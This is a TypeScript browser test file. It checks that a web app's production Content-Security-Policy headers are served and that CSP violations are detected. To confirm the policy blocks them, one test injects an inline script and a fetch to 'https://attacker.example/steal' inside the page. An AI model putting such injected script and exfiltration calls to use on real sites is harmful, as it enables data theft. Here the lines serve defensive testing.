/**
 * The production build is served with the production security headers (the module CloudFront uses),
 * and the harness notices a CSP violation: every other browser test then proves its journey works
 * under that policy, because a violation fails it.
 */
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import type { Browser } from 'playwright-core';
import { endpointsFromEnv, securityHeaders } from '../../server/hosting/security-headers';
import { launchChromium } from './support/chromium';
import { watchCspViolations } from './support/csp';

const stack = inject('stack');
let browser: Browser;

beforeAll(async () => {
  browser = await launchChromium();
});
afterAll(async () => {
  await browser?.close();
});

describe('security headers under vite preview', () => {
  it('every response carries the production headers, with connect-src naming this stack', async () => {
    const expected = securityHeaders(endpointsFromEnv(stack.env));
    for (const path of ['/', '/sign-in', '/account']) {
      const response = await fetch(`${stack.appUrl}${path}`);
      for (const [name, value] of Object.entries(expected))
        expect(response.headers.get(name), `${name} on ${path}`).toBe(value);
    }
    const csp = expected['Content-Security-Policy']!;
    const connect = /connect-src ([^;]+)/.exec(csp)![1]!.split(' ');
    expect(connect).toEqual([new URL(stack.cognitoUrl).origin, new URL(stack.apiUrl).origin]);
    expect(csp).toContain("script-src 'self';");
    expect(csp).not.toContain('unsafe-inline');
  });

  it('a violation in the page is caught (the check the other tests rely on can fail)', async () => {
    const context = await browser.newContext();
    try {
      const violations = await watchCspViolations(context);
      const page = await context.newPage();
      await page.goto(`${stack.appUrl}/sign-in`);
      await page.getByRole('heading', { name: 'Sign in' }).waitFor();
      expect(violations()).toEqual([]);
      await page.evaluate(() => {
        const script = document.createElement('script');
        script.textContent = 'window.injected = true';
        document.head.append(script);
        void fetch('https://attacker.example/steal').catch(() => {});
      });
      await expect.poll(() => violations().length).toBe(2);
      expect(violations().join('\n')).toMatch(/script-src-elem refused inline/);
      expect(violations().join('\n')).toMatch(/connect-src refused https:\/\/attacker\.example/);
      expect(await page.evaluate(() => 'injected' in window)).toBe(false);
    } finally {
      await context.close();
    }
  });
});
